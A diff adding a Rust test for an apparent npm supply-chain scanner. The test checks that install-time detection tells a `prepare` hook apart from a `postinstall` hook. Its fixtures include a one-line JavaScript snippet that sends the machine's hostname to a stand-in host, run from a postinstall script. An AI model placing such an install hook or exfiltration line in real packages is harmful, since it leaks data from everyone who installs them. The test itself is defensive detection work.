@@ -674,3 +674,47 @@ fn node_sea_snapshot_is_reported_as_not_analysed() {
         "{doc}"
     );
 }
+
+#[test]
+fn prepare_is_not_install_time_but_postinstall_is() {
+    // npm runs `prepare` only for git and folder installs, never from a registry tarball.
+    let dir = tempfile::tempdir().unwrap();
+    let send = b"require('https').get('https://t.example.top/?h=' + require('os').hostname());";
+    write(dir.path(), "package/guard.js", send);
+    write(dir.path(), "package/setup.js", send);
+    write(
+        dir.path(),
+        "package/package.json",
+        br#"{"name":"p","version":"1.0.0","scripts":{"prepare":"node guard.js"}}"#,
+    );
+    let (_, doc) = scan_json([dir.path().join("package")]);
+    let findings = doc["targets"][0]["findings"].as_array().unwrap().clone();
+    let install = findings
+        .iter()
+        .find(|f| f["rule"] == "TT501")
+        .expect("prepare listed");
+    assert_eq!(install["severity"], "info", "{install}");
+    let exfil = findings
+        .iter()
+        .find(|f| f["rule"] == "TT102")
+        .expect("the send");
+    assert_eq!(exfil["install_time"], false, "{exfil}");
+    let scripts = doc["targets"][0]["label"]["install_scripts"].to_string();
+    assert!(
+        scripts.contains("git and folder installs only"),
+        "{scripts}"
+    );
+    // The same file run from `postinstall` is install-time code.
+    write(
+        dir.path(),
+        "package/package.json",
+        br#"{"name":"p","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
+    );
+    let (_, doc) = scan_json([dir.path().join("package")]);
+    let findings = doc["targets"][0]["findings"].as_array().unwrap().clone();
+    let exfil = findings
+        .iter()
+        .find(|f| f["rule"] == "TT102" && f["file"] == "setup.js")
+        .unwrap_or_else(|| panic!("{findings:#?}"));
+    assert_eq!(exfil["install_time"], true, "{exfil}");
+}
